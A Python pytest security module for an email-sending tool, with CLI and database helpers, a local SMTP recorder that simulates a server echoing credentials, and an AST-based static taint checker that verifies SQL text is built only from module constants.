"""The security pass (issue 4): one place that proves each guarantee of README.md's "Security" section.

1. Templates: known Jinja2 sandbox escapes are refused by `sendguard campaign create` (exit 2, one
   line), and lead data is never evaluated as a template at send time.
2. Headers: no CR/LF or other line separator from a lead, a template or the campaign file ever splits a
   header of the message put on the wire (the bytes are parsed back), or the input is refused cleanly.
3. Secrets: the SMTP password and the database password never reach stdout, stderr, logs, tracebacks,
   `status --json` or any other output, nor any column of the database.
4. SQL: hostile names and fields are stored verbatim and leave every table intact on both backends;
   a static taint check proves SQL text is built from module constants only.
5. Dashboard: CSV downloads neutralise formula prefixes; the password gate throttles; lead text is
   shown as text, never HTML.

Where another test file already proves a point in depth, the test here re-checks it on the real parts
and names that file, so this module alone answers "is it still true?".
"""

from __future__ import annotations

import ast
import base64
import builtins
import csv
import email.parser
import email.policy
import io
import json
import os
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiosmtpd.smtp import SMTP, AuthResult, Envelope, Session
from sqlalchemy import MetaData, inspect, select, text
from sqlalchemy.engine import make_url

from sender.db import make_engine
from tests._dashboard import (  # noqa: F401  (fixtures)
    demo_template_fixture,
    demo_url_fixture,
    isolated_fixture,
)
from tests.conftest import ROOT, prepare_database, run_cli
from tests.integration.helpers import poll_until
from tests.smtp_peer import BoundController

CliResult = subprocess.CompletedProcess[str]

# --------------------------------------------------------------------------------------------------
# shared helpers
# --------------------------------------------------------------------------------------------------


def _env(db_url: str, tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SENDGUARD_")}
    env.update(
        SENDGUARD_DATABASE_URL=db_url,
        SENDGUARD_LOCK_FILE=str(tmp_path / "sender.lock"),
        PYTHONUNBUFFERED="1",
        **extra,
    )
    return env


def _ok(result: CliResult) -> CliResult:
    assert result.returncode == 0, (
        f"exit {result.returncode}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    )
    assert "Traceback" not in result.stderr, result.stderr
    return result


def _one_line_exit_2(result: CliResult, what: str) -> str:
    """CLI.md: bad input is exit 2 with exactly one line on stderr and no traceback."""
    assert result.returncode == 2, (
        f"[{what}] exit {result.returncode}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    )
    assert "Traceback" not in result.stderr, f"[{what}] {result.stderr}"
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, f"[{what}] expected one line on stderr, got {result.stderr!r}"
    return lines[0]


def _run_all(calls: list[tuple[list[str], dict[str, str]]], workers: int = 4) -> list[CliResult]:
    """Independent CLI processes, a few at a time (order of results kept)."""
    with ThreadPoolExecutor(max_workers=min(workers, len(calls))) as pool:
        return list(pool.map(lambda call: run_cli(call[0], call[1]), calls))


def _in_process(
    args: list[str], env: dict[str, str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> CliResult:
    """`sendguard ARGS` through sender.cli.main in this process, with `env`'s SENDGUARD_* settings."""
    from sender import cli

    with monkeypatch.context() as patch:
        for name in [k for k in os.environ if k.startswith("SENDGUARD_")]:
            patch.delenv(name)
        for name, value in env.items():
            if name.startswith("SENDGUARD_"):
                patch.setenv(name, value)
        capsys.readouterr()
        code = cli.main(args)
        out, err = capsys.readouterr()
    return subprocess.CompletedProcess(args, code, out, err)


def _toml_str(value: str) -> str:
    # A JSON string is a valid TOML basic string once DEL is escaped too (JSON keeps it raw); non-ASCII
    # stays literal, as TOML refuses the surrogate-pair escapes JSON would write for an emoji.
    return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007F")


def _campaign_toml(
    path: Path,
    name: str,
    *,
    subject: str = "Hello {{ first_name }}",
    body: str = "Hi {{ first_name }}",
    from_addr: str = "Ana Nowak <ana@example.com>",
    extra: str = "",
) -> Path:
    path.write_text(
        f"name = {_toml_str(name)}\nfrom = {_toml_str(from_addr)}\n{extra}\n"
        f'[[variants]]\nletter = "A"\nsubject = {_toml_str(subject)}\nbody = {_toml_str(body)}\n',
        encoding="utf-8",
    )
    return path


def _csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _sql(url: str, sql: str, params: dict | None = None) -> list[tuple]:
    engine = make_engine(url)
    try:
        with engine.begin() as conn:
            result = conn.execute(text(sql), params or {})
            return [tuple(r) for r in result] if result.returns_rows else []
    finally:
        engine.dispose()


def _dump_database(url: str) -> str:
    """Every row of every table as text: the secret grep needs every column, not a chosen few."""
    engine = make_engine(url, readonly=True)
    try:
        metadata = MetaData()
        metadata.reflect(engine)
        with engine.connect() as conn:
            return "\n".join(
                f"{table.name}: " + " | ".join(str(v) for v in row)
                for table in metadata.sorted_tables
                for row in conn.execute(select(table))
            )
    finally:
        engine.dispose()


def _tables(url: str) -> set[str]:
    engine = make_engine(url, readonly=True)
    try:
        return set(inspect(engine).get_table_names())
    finally:
        engine.dispose()


class Recorder:
    """A real SMTP server on 127.0.0.1 (aiosmtpd) that keeps the exact bytes of every message, and
    optionally demands AUTH and refuses it with a reply echoing the password (a hostile server)."""

    def __init__(self, *, refuse_auth: bool = False) -> None:
        self.messages: list[tuple[list[str], bytes]] = []
        self.auth_attempts: list[tuple[str, bytes, bytes]] = []
        self._lock = threading.Lock()
        kwargs: dict[str, object] = {}
        if refuse_auth:
            kwargs = {"authenticator": self._refuse, "auth_require_tls": False}
        self.controller = BoundController(self, **kwargs)

    def _refuse(
        self, server: SMTP, session: Session, envelope: Envelope, mechanism: str, data: object
    ) -> AuthResult:
        login = getattr(data, "login", b"") or b""
        password = getattr(data, "password", b"") or b""
        with self._lock:
            self.auth_attempts.append((mechanism, login, password))
        # A server that quotes the credentials back: the sender must scrub them from what it keeps.
        return AuthResult(
            success=False, handled=False, message=f"535 5.7.8 bad password {password.decode()!s}"
        )

    async def handle_DATA(self, server: SMTP, session: Session, envelope: Envelope) -> str:
        assert isinstance(envelope.content, bytes)
        with self._lock:
            self.messages.append((list(envelope.rcpt_tos), envelope.content))
        return "250 2.0.0 Ok"

    def __enter__(self) -> Recorder:
        self.controller.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.controller.stop()

    @property
    def port(self) -> int:
        return self.controller.port

    @property
    def url(self) -> str:
        return self.controller.url


# --------------------------------------------------------------------------------------------------
# 4b. SQL text comes only from module constants: a static taint check
# --------------------------------------------------------------------------------------------------
#
# Every string that reaches a SQL sink (sqlalchemy `text()` / `literal_column()`, or `.execute()`,
# `.executemany()`, `.executescript()`, `.exec_driver_sql()` given a string) must be *trusted*: built
# only from literals and module constants. reports.py and friends deliberately `.format()` constant
# fragments into statement templates, chosen by dialect or by whether a filter is wanted (see the comment
# above reports._bucket); that is accepted because every piece is traced back to a literal. A value a
# caller passes in (a function parameter, the environment, a database row, an attribute of an object)
# is *tainted*; pasting one into SQL text fails the test, naming file and line. Values a caller passes
# are fine as bound parameters, which never go through this check.
#
# Trusted expressions:
# - literals; names bound only to trusted expressions (module constants, locals, comprehension
#   variables iterating a trusted collection, loop variables likewise); classes defined in the project
#   (enum members are constants); names imported from project modules, resolved there;
# - f-strings, `+`, `%`, `.format()`, `.join()` and other method calls on a trusted value with
#   trusted arguments; conditional expressions of trusted branches (the condition only *chooses* a
#   constant); subscripts of a trusted container (the index only chooses), `.get(key, trusted)` too;
# - results of int()/float()/len()/bool()/round()/abs() (numbers cannot inject), builtins with trusted
#   arguments, calls of project functions whose every `return` is trusted;
# - parameters of a *private* module function (leading `_`) whose every call site passes a trusted
#   argument (so `reports._bucket(engine, "sl.created_at")` is fine, a public API parameter never is);
# - SQLAlchemy statement constructors (select/insert/update/delete/text/bindparam ...) and method
#   chains on them: Core binds every value; the text they wrap is checked at its own text() call.

SCAN_GLOBS = ("sender/*.py", "reports.py", "dashboard*.py", "pages/*.py", "models.py", "migrations/**/*.py")
_SQLA_MODULES = ("sqlalchemy", "sqlmodel", "alembic")
_TEXT_SINKS = {"text", "literal_column"}
_EXECUTE_SINKS = {"execute", "executemany", "executescript", "exec_driver_sql"}
# Core constructs whose values are always bound parameters; text()/literal_column() are sinks anyway.
_SQLA_CONSTRUCTORS = {
    "text", "literal_column", "select", "insert", "update", "delete", "bindparam", "union", "union_all",
    "exists", "and_", "or_", "not_", "case", "cast", "column", "table", "func", "tuple_", "values",
}  # fmt: skip
_NUMERIC_BUILTINS = {"int", "float", "len", "bool", "round", "abs", "range", "hash"}
_INPUT_BUILTINS = {"input", "open", "getattr", "eval", "exec", "vars", "globals", "locals", "__import__"}
_MAX_CALL_DEPTH = 12
# sender/claim.py's Prepared._execute hands the driver the compiled form of the text() clause it wraps;
# every `Prepared(...)` is itself a sink here, so what it wraps is checked where it is built.
_COMPILED_RUNNERS = {("sender.claim", "_execute")}


@dataclass
class _Module:
    name: str
    path: Path
    tree: ast.Module
    assigns: dict[str, list[tuple[ast.expr, int | None]]] = field(default_factory=dict)
    functions: dict[str, ast.FunctionDef | ast.AsyncFunctionDef] = field(default_factory=dict)
    classes: dict[str, ast.ClassDef] = field(default_factory=dict)
    imports: dict[str, tuple[str, str | None]] = field(default_factory=dict)  # alias -> (module, name)
    parents: dict[int, ast.AST] = field(default_factory=dict)


_Binding = tuple["ast.expr | None", "_Scope | None"]  # a parameter's argument at one call (None: unknown)


@dataclass(frozen=True)
class _Scope:
    module: _Module
    functions: tuple[ast.FunctionDef | ast.AsyncFunctionDef | ast.Lambda, ...] = ()
    comprehension: tuple[tuple[str, ast.expr, _Scope], ...] = ()
    # Arguments of the call being evaluated, per function (id): calls are followed with their actual
    # arguments, so a helper is judged by what each caller passes, not by every caller at once.
    bindings: dict[int, dict[str, _Binding]] = field(default_factory=dict)
    depth: int = 0

    def bind(self, names: list[str], iterable: ast.expr, scope: _Scope) -> _Scope:
        comprehension = self.comprehension + tuple((n, iterable, scope) for n in names)
        return _Scope(self.module, self.functions, comprehension, self.bindings, self.depth)

    def key(self) -> tuple[object, ...]:
        return (
            tuple(id(f) for f in self.functions),
            id(self.bindings),
            tuple(id(c[1]) for c in self.comprehension),
        )


def _target_bindings(target: ast.expr, value: ast.expr | None) -> Iterator[tuple[str, ast.expr | None]]:
    """(name, the expression it is bound to) for an assignment target; tuple unpacking is matched element
    by element when the value is a tuple display (or a conditional choosing between two)."""
    if isinstance(target, ast.Name):
        yield target.id, value
    elif isinstance(target, (ast.Tuple, ast.List)):
        branches = [value.body, value.orelse] if isinstance(value, ast.IfExp) else [value]
        for index, element in enumerate(target.elts):
            for branch in branches:
                if isinstance(branch, (ast.Tuple, ast.List)) and len(branch.elts) == len(target.elts):
                    yield from _target_bindings(element, branch.elts[index])
                else:
                    yield from _target_bindings(element, branch)
    elif isinstance(target, ast.Starred):
        yield from _target_bindings(target.value, value)


def _local_bindings(node: ast.AST) -> dict[str, list[ast.expr | None]]:
    """Names bound in a function body (not in nested functions, classes or comprehensions). A binding
    to None (an exception, a `with` of unknown value, a global) is never trusted."""
    out: dict[str, list[ast.expr | None]] = {}

    def add(target: ast.expr, value: ast.expr | None) -> None:
        for name, bound in _target_bindings(target, value):
            out.setdefault(name, []).append(bound)

    def walk(n: ast.AST) -> None:
        for child in ast.iter_child_nodes(n):
            if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                out.setdefault(child.name, []).append(None)
                continue
            if isinstance(child, (ast.Lambda, ast.GeneratorExp, ast.ListComp, ast.SetComp, ast.DictComp)):
                continue
            if isinstance(child, ast.Assign):
                for target in child.targets:
                    add(target, child.value)
            elif isinstance(child, (ast.AnnAssign, ast.AugAssign)) and child.value is not None:
                add(child.target, child.value)
            elif isinstance(child, ast.NamedExpr):
                add(child.target, child.value)
            elif isinstance(child, (ast.For, ast.AsyncFor)):
                add(child.target, child.iter)  # an element of a trusted collection is trusted
            elif isinstance(child, (ast.With, ast.AsyncWith)):
                for item in child.items:
                    if item.optional_vars is not None:
                        add(item.optional_vars, None)
            elif isinstance(child, ast.ExceptHandler) and child.name:
                out.setdefault(child.name, []).append(None)
            elif isinstance(child, (ast.Import, ast.ImportFrom, ast.Global, ast.Nonlocal)):
                names = child.names if isinstance(child, (ast.Global, ast.Nonlocal)) else []
                for name in names:
                    out.setdefault(name, []).append(None)
            walk(child)

    walk(node)
    return out


def _params(fn: ast.FunctionDef | ast.AsyncFunctionDef | ast.Lambda) -> list[ast.arg]:
    a = fn.args
    return [*a.posonlyargs, *a.args, *([a.vararg] if a.vararg else []), *a.kwonlyargs,
            *([a.kwarg] if a.kwarg else [])]  # fmt: skip


class SqlTaint:
    """The checker over a set of source files (module name -> source)."""

    def __init__(self, sources: dict[str, tuple[Path, str]]) -> None:
        self.modules: dict[str, _Module] = {}
        for name, (path, source) in sources.items():
            self.modules[name] = self._index(name, path, ast.parse(source, filename=str(path)))
        self._memo: dict[tuple[object, ...], bool] = {}
        self._locals: dict[int, dict[str, list[ast.expr | None]]] = {}
        self._param_memo: dict[tuple[int, str], bool] = {}
        self.checked: list[str] = []  # module:line of every sink seen (proof the scan is not vacuous)

    @staticmethod
    def _index(name: str, path: Path, tree: ast.Module) -> _Module:
        module = _Module(name, path, tree)
        for parent in ast.walk(tree):
            for child in ast.iter_child_nodes(parent):
                module.parents[id(child)] = parent

        def top(body: list[ast.stmt]) -> None:
            for stmt in body:
                if isinstance(stmt, ast.Assign):
                    for target in stmt.targets:
                        for n, v in _target_bindings(target, stmt.value):
                            module.assigns.setdefault(n, []).append((v, stmt.lineno))  # type: ignore[arg-type]
                elif isinstance(stmt, (ast.AnnAssign, ast.AugAssign)) and stmt.value is not None:
                    for n, v in _target_bindings(stmt.target, stmt.value):
                        module.assigns.setdefault(n, []).append((v, stmt.lineno))  # type: ignore[arg-type]
                elif isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    module.functions[stmt.name] = stmt
                elif isinstance(stmt, ast.ClassDef):
                    module.classes[stmt.name] = stmt
                elif isinstance(stmt, ast.Import):
                    for alias in stmt.names:
                        module.imports[alias.asname or alias.name.split(".")[0]] = (
                            alias.name if alias.asname else alias.name.split(".")[0],
                            None,
                        )
                elif isinstance(stmt, ast.ImportFrom) and stmt.module:
                    for alias in stmt.names:
                        module.imports[alias.asname or alias.name] = (stmt.module, alias.name)
                elif isinstance(stmt, (ast.If, ast.Try)):
                    top(stmt.body)
                    top(stmt.orelse)
                    for handler in getattr(stmt, "handlers", []):
                        top(handler.body)

        top(tree.body)
        return module

    # -- trust ------------------------------------------------------------------------------------

    def trusted(self, expr: ast.expr | None, scope: _Scope) -> bool:
        if expr is None:
            return False
        key = (id(expr), scope.key())
        if key in self._memo:
            return self._memo[key]
        self._memo[key] = True  # optimistic on cycles (x = x + "..."): a cycle adds no new source
        result = self._trusted(expr, scope)
        self._memo[key] = result
        return result

    def _all(self, exprs: list[ast.expr], scope: _Scope) -> bool:
        return all(self.trusted(e, scope) for e in exprs)

    def _trusted(self, e: ast.expr, scope: _Scope) -> bool:  # noqa: C901 (one case per node type)
        if isinstance(e, ast.Constant):
            return True
        if isinstance(e, ast.Name):
            return self._name(e.id, scope)
        if isinstance(e, ast.JoinedStr):
            return self._all(list(e.values), scope)
        if isinstance(e, ast.FormattedValue):
            return self.trusted(e.value, scope) and (
                e.format_spec is None or self.trusted(e.format_spec, scope)
            )
        if isinstance(e, ast.BinOp):
            return self.trusted(e.left, scope) and self.trusted(e.right, scope)
        if isinstance(e, ast.BoolOp):
            return self._all(e.values, scope)
        if isinstance(e, ast.IfExp):  # the condition only chooses between trusted values
            return self.trusted(e.body, scope) and self.trusted(e.orelse, scope)
        if isinstance(e, (ast.Tuple, ast.List, ast.Set)):
            return self._all(e.elts, scope)
        if isinstance(e, ast.Dict):
            keys = [k for k in e.keys if k is not None]
            return self._all(keys, scope) and self._all(e.values, scope)
        if isinstance(e, ast.Starred):
            return self.trusted(e.value, scope)
        if isinstance(e, ast.Subscript):  # the index only chooses among trusted values
            return self.trusted(e.value, scope)
        if isinstance(e, ast.Attribute):
            return self._attribute(e, scope)
        if isinstance(e, (ast.GeneratorExp, ast.ListComp, ast.SetComp, ast.DictComp)):
            inner = scope
            for gen in e.generators:
                names = [n for n, _ in _target_bindings(gen.target, None)]
                inner = inner.bind(names, gen.iter, inner)
            if isinstance(e, ast.DictComp):
                return self.trusted(e.key, inner) and self.trusted(e.value, inner)
            return self.trusted(e.elt, inner)
        if isinstance(e, ast.Call):
            return self._call(e, scope)
        if isinstance(e, (ast.Compare, ast.UnaryOp)):
            return True  # a bool or a number
        return False  # lambdas, awaits, yields, anything unforeseen: not trusted

    def _name(self, name: str, scope: _Scope) -> bool:
        for bound, iterable, bound_scope in reversed(scope.comprehension):
            if bound == name:
                return self.trusted(iterable, bound_scope)
        for depth in range(len(scope.functions) - 1, -1, -1):
            fn = scope.functions[depth]
            outer = _Scope(scope.module, scope.functions[: depth + 1], (), scope.bindings, scope.depth)
            params = [p.arg for p in _params(fn)]
            if name in params:
                bound = scope.bindings.get(id(fn), {})
                if name in bound:
                    arg, arg_scope = bound[name]
                    return arg is not None and arg_scope is not None and self.trusted(arg, arg_scope)
                return self._param_trusted(scope.module, fn, name)
            local = self._locals.setdefault(id(fn), _local_bindings(fn))
            if name in local:
                return all(v is not None and self.trusted(v, outer) for v in local[name])
        return self._module_name(scope.module, name)

    def _module_name(self, module: _Module, name: str) -> bool:
        if name in module.assigns:
            top = _Scope(module)
            return all(self.trusted(v, top) for v, _ in module.assigns[name])
        if name in module.classes or name in module.functions:
            return True  # code, not data: a call of the function is judged by _call
        if name in module.imports:
            target, attr = module.imports[name]
            if target in self.modules and attr is not None:
                return self._module_name(self.modules[target], attr)
            # SQLAlchemy's own names (String, Integer, func ...) are code; any other library's object
            # (os.environ, a request) is not known to be constant.
            return target.split(".")[0] in _SQLA_MODULES
        # A builtin (dict, str, ...) is code; the ones that read input are not.
        return hasattr(builtins, name) and name not in _INPUT_BUILTINS

    def _attribute(self, e: ast.Attribute, scope: _Scope) -> bool:
        # project_module.NAME resolves there; an attribute of a trusted value (an enum member's
        # .value, a constant's method) is trusted; self.x or row.x is not.
        module = self._project_module(e.value, scope)
        if module is not None:
            return self._module_name(module, e.attr)
        return self.trusted(e.value, scope)

    def _project_module(self, e: ast.expr, scope: _Scope) -> _Module | None:
        if isinstance(e, ast.Name) and e.id in scope.module.imports and not self._shadowed(e.id, scope):
            target, attr = scope.module.imports[e.id]
            name = target if attr is None else f"{target}.{attr}"
            return self.modules.get(name)
        return None

    def _shadowed(self, name: str, scope: _Scope) -> bool:
        if any(bound == name for bound, _, _ in scope.comprehension):
            return True
        for fn in scope.functions:
            if name in [p.arg for p in _params(fn)] or name in self._locals.setdefault(
                id(fn), _local_bindings(fn)
            ):
                return True
        return False

    def is_sqla(self, func: ast.expr, scope: _Scope, names: set[str] | None) -> bool:
        """`func` is one of `names` (None: any name) imported from SQLAlchemy/SQLModel/Alembic, bare or
        as module.attr."""
        if isinstance(func, ast.Name):
            if (names is not None and func.id not in names) or self._shadowed(func.id, scope):
                return False
            origin = scope.module.imports.get(func.id)
            return origin is not None and origin[0].split(".")[0] in _SQLA_MODULES
        if (
            isinstance(func, ast.Attribute)
            and (names is None or func.attr in names)
            and isinstance(func.value, ast.Name)
        ):
            origin = scope.module.imports.get(func.value.id)
            return origin is not None and origin[1] is None and origin[0].split(".")[0] in _SQLA_MODULES
        return False

    def _sqla_rooted(self, e: ast.expr, scope: _Scope) -> bool:
        while (
            isinstance(e, ast.Call)
            and isinstance(e.func, ast.Attribute)
            and not self.is_sqla(e.func, scope, _SQLA_CONSTRUCTORS)
        ):
            e = e.func.value  # statement.where(...).values(...): walk down to the constructor
        return isinstance(e, ast.Call) and self.is_sqla(e.func, scope, _SQLA_CONSTRUCTORS)

    def _call(self, e: ast.Call, scope: _Scope) -> bool:
        if self._sqla_rooted(e, scope) or self.is_sqla(e.func, scope, None):
            return True  # a Core construct or type (String(), UTCDateTime()): values are bound
        args = [*e.args, *(k.value for k in e.keywords)]
        func = e.func
        if isinstance(func, ast.Name) and not self._shadowed(func.id, scope):
            if func.id in scope.module.functions:
                return self._call_returns(scope.module, scope.module.functions[func.id], e, scope)
            origin = scope.module.imports.get(func.id)
            if (
                origin is not None
                and origin[0] in self.modules
                and origin[1] in self.modules[origin[0]].functions
            ):
                target = self.modules[origin[0]]
                return self._call_returns(target, target.functions[origin[1]], e, scope)  # type: ignore[index]
            if func.id in _NUMERIC_BUILTINS and func.id not in scope.module.imports:
                return True
            if (
                hasattr(builtins, func.id)
                and func.id not in scope.module.imports
                and func.id not in _INPUT_BUILTINS
            ):
                return self._all(args, scope)
            return False
        if isinstance(func, ast.Attribute):
            module = self._project_module(func.value, scope)
            if module is not None:
                fn = module.functions.get(func.attr)
                return fn is not None and self._call_returns(module, fn, e, scope)
            owner = self._class_of(func.value, scope)
            if owner is not None:
                # A method of a project class whose receiver's class is known (annotation, constructor):
                # judged by its returns with these arguments; `self` (the object's state) is untrusted.
                cls_module, cls = owner
                methods = [m for m in cls.body if isinstance(m, (ast.FunctionDef, ast.AsyncFunctionDef))]
                method = next((m for m in methods if m.name == func.attr), None)
                return method is not None and self._call_returns(
                    cls_module, method, e, scope, bound_self=True
                )
            if func.attr == "get" and e.args and not e.keywords:
                # A lookup in a trusted mapping yields one of its values or the (trusted) default.
                default = e.args[1] if len(e.args) > 1 else ast.Constant(None)
                return self.trusted(func.value, scope) and self.trusted(default, scope)
            return self.trusted(func.value, scope) and self._all(args, scope)
        return False

    def _returns_trusted(
        self, module: _Module, fn: ast.FunctionDef | ast.AsyncFunctionDef, inner: _Scope | None = None
    ) -> bool:
        inner = inner or _Scope(module, (fn,))
        returns = [n for n in self._own_nodes(fn) if isinstance(n, ast.Return)]
        return all(r.value is None or self.trusted(r.value, inner) for r in returns)

    def _call_returns(
        self,
        module: _Module,
        fn: ast.FunctionDef | ast.AsyncFunctionDef,
        call: ast.Call,
        scope: _Scope,
        *,
        bound_self: bool = False,
    ) -> bool:
        """Are fn's returns trusted with this call's arguments bound to its parameters?"""
        if scope.depth >= _MAX_CALL_DEPTH:  # deep or recursive: judge by every caller instead
            return not bound_self and self._returns_trusted(module, fn)
        positional = [p.arg for p in [*fn.args.posonlyargs, *fn.args.args]]
        bound: dict[str, _Binding] = {}
        if bound_self and positional:
            bound[positional.pop(0)] = (None, None)
        if any(isinstance(a, ast.Starred) for a in call.args) or any(k.arg is None for k in call.keywords):
            # *args / **kwargs: which parameter gets what is not known
            bound |= {p.arg: (None, None) for p in _params(fn) if p.arg not in bound}
        else:
            for name, arg in zip(positional, call.args, strict=False):
                bound[name] = (arg, scope)
            for kw in call.keywords:
                bound[str(kw.arg)] = (kw.value, scope)
            for p in _params(fn):
                if p.arg not in bound:
                    default = self._default(fn, p.arg)
                    bound[p.arg] = (default, _Scope(module)) if default is not None else (None, None)
        inner = _Scope(module, (fn,), (), {id(fn): bound}, scope.depth + 1)
        return self._returns_trusted(module, fn, inner)

    def _class_of(self, e: ast.expr, scope: _Scope) -> tuple[_Module, ast.ClassDef] | None:
        """The project class of an object, when statically evident: a constructor call, a name bound
        only to constructor calls, or a parameter annotated with the class."""
        if isinstance(e, ast.Call):
            return self._project_class(e.func, scope.module)
        if not isinstance(e, ast.Name):
            return None
        for fn in reversed(scope.functions):
            if e.id in [p.arg for p in _params(fn)]:
                arg, arg_scope = scope.bindings.get(id(fn), {}).get(e.id, (None, None))
                if arg is not None and arg_scope is not None:
                    found = self._class_of(arg, arg_scope)
                    if found is not None:
                        return found
                annotation = next(p.annotation for p in _params(fn) if p.arg == e.id)
                if isinstance(annotation, ast.Constant) and isinstance(annotation.value, str):
                    annotation = ast.parse(annotation.value, mode="eval").body
                return self._project_class(annotation, scope.module) if annotation is not None else None
            local = self._locals.setdefault(id(fn), _local_bindings(fn))
            if e.id in local:
                owners = [self._class_of(v, scope) if v is not None else None for v in local[e.id]]
                distinct = {id(o[1]) if o else None for o in owners}
                return owners[0] if len(distinct) == 1 else None
        if e.id in scope.module.assigns:
            values = [v for v, _ in scope.module.assigns[e.id]]
            if len(values) == 1 and values[0] is not None:
                return self._class_of(values[0], _Scope(scope.module))
        return None

    def _project_class(self, e: ast.expr, module: _Module) -> tuple[_Module, ast.ClassDef] | None:
        if isinstance(e, ast.Name):
            if e.id in module.classes:
                return module, module.classes[e.id]
            origin = module.imports.get(e.id)
            if (
                origin is not None
                and origin[0] in self.modules
                and origin[1] in self.modules[origin[0]].classes
            ):
                target = self.modules[origin[0]]
                return target, target.classes[str(origin[1])]
        if isinstance(e, ast.Attribute) and isinstance(e.value, ast.Name):
            origin = module.imports.get(e.value.id)
            if origin is not None and origin[1] is None and origin[0] in self.modules:
                target = self.modules[origin[0]]
                if e.attr in target.classes:
                    return target, target.classes[e.attr]
        return None

    @staticmethod
    def _own_nodes(fn: ast.AST) -> Iterator[ast.AST]:
        for child in ast.iter_child_nodes(fn):
            if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef, ast.Lambda)):
                continue
            yield child
            yield from SqlTaint._own_nodes(child)

    def _param_trusted(self, module: _Module, fn: ast.AST, name: str) -> bool:
        key = (id(fn), name)
        if key in self._param_memo:
            return self._param_memo[key]
        self._param_memo[key] = True  # optimistic on recursion
        result = self._param_from_call_sites(module, fn, name)
        self._param_memo[key] = result
        return result

    def _param_from_call_sites(self, module: _Module, fn: ast.AST, name: str) -> bool:
        # Only a private module-level function has all its callers here to inspect.
        if (
            not isinstance(fn, (ast.FunctionDef, ast.AsyncFunctionDef))
            or module.functions.get(fn.name) is not fn
        ):
            return False
        if not fn.name.startswith("_"):
            return False
        params = [p.arg for p in [*fn.args.posonlyargs, *fn.args.args]]
        found = 0
        for node, scope in self._walk(module):
            if isinstance(node, ast.Name) and node.id == fn.name and isinstance(node.ctx, ast.Load):
                parent = module.parents.get(id(node))
                if not (isinstance(parent, ast.Call) and parent.func is node):
                    return False  # passed around as a value: callers unknown
                if any(isinstance(a, ast.Starred) for a in parent.args) or any(
                    k.arg is None for k in parent.keywords
                ):
                    return False
                arg = next((k.value for k in parent.keywords if k.arg == name), None)
                if arg is None and name in params and params.index(name) < len(parent.args):
                    arg = parent.args[params.index(name)]
                if arg is None:
                    arg = self._default(fn, name)
                if arg is None or not self.trusted(arg, scope):
                    return False
                found += 1
        return found > 0

    @staticmethod
    def _default(fn: ast.FunctionDef | ast.AsyncFunctionDef, name: str) -> ast.expr | None:
        positional = [*fn.args.posonlyargs, *fn.args.args]
        defaults = dict(
            zip(
                [p.arg for p in positional[len(positional) - len(fn.args.defaults) :]],
                fn.args.defaults,
                strict=True,
            )
        )
        defaults |= {
            p.arg: d for p, d in zip(fn.args.kwonlyargs, fn.args.kw_defaults, strict=True) if d is not None
        }
        return defaults.get(name)

    # -- walking and sinks ------------------------------------------------------------------------

    def _walk(self, module: _Module) -> Iterator[tuple[ast.AST, _Scope]]:
        """Every node of the module with the scope it is evaluated in."""

        def visit(node: ast.AST, scope: _Scope) -> Iterator[tuple[ast.AST, _Scope]]:
            yield node, scope
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)):
                inner = _Scope(scope.module, (*scope.functions, node))
                for child in ast.iter_child_nodes(node):
                    # decorators and defaults are evaluated in the enclosing scope
                    in_body = not (child in getattr(node, "decorator_list", []) or child is node.args)
                    yield from visit(child, inner if in_body else scope)
                return
            if isinstance(node, (ast.GeneratorExp, ast.ListComp, ast.SetComp, ast.DictComp)):
                inner = scope
                for gen in node.generators:
                    yield from visit(gen.iter, inner)
                    inner = inner.bind([n for n, _ in _target_bindings(gen.target, None)], gen.iter, inner)
                    for cond in gen.ifs:
                        yield from visit(cond, inner)
                parts = [node.key, node.value] if isinstance(node, ast.DictComp) else [node.elt]
                for part in parts:
                    yield from visit(part, inner)
                return
            for child in ast.iter_child_nodes(node):
                yield from visit(child, scope)

        yield from visit(module.tree, _Scope(module))

    def violations(self) -> list[str]:
        found = []
        for module in self.modules.values():
            for node, scope in self._walk(module):
                if not isinstance(node, ast.Call) or not node.args:
                    continue
                sink = None
                if self.is_sqla(node.func, scope, _TEXT_SINKS):
                    sink = f"{ast.unparse(node.func)}()"
                elif isinstance(node.func, ast.Attribute) and node.func.attr in _EXECUTE_SINKS:
                    sink = f".{node.func.attr}()"
                elif isinstance(node.func, ast.Name) and node.func.id == "Prepared":
                    sink = "Prepared()"  # what it wraps is compiled and run by _COMPILED_RUNNERS
                if sink is not None:
                    self.checked.append(f"{module.name}:{node.lineno}")
                function = scope.functions[-1] if scope.functions else None
                if (module.name, getattr(function, "name", None)) in _COMPILED_RUNNERS:
                    continue
                if sink is not None and not self.trusted(node.args[0], scope):
                    found.append(
                        f"{module.path.relative_to(module.path.parents[len(module.name.split('.')) - 1])}"
                        f":{node.lineno}: {sink} gets SQL built from a non-constant value: "
                        f"{ast.unparse(node.args[0])[:120]}"
                    )
        return found


def _project_sources() -> dict[str, tuple[Path, str]]:
    sources = {}
    for pattern in SCAN_GLOBS:
        for path in sorted(ROOT.glob(pattern)):
            name = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            sources[name] = (path, path.read_text(encoding="utf-8"))
    return sources


def test_sql_text_is_built_only_from_module_constants() -> None:
    sources = _project_sources()
    assert {"reports", "sender.claim", "dashboard_data", "sender.status"} <= set(sources)
    assert any(name.startswith("pages.") for name in sources)
    checker = SqlTaint(sources)
    problems = checker.violations()
    assert problems == [], "\n".join(problems)
    # The scan saw the statements that matter: reports' templates, the claim protocol, the pages' data.
    for module in ("reports", "sender.claim", "dashboard_data", "sender.status", "sender.db"):
        assert any(site.startswith(f"{module}:") for site in checker.checked), module
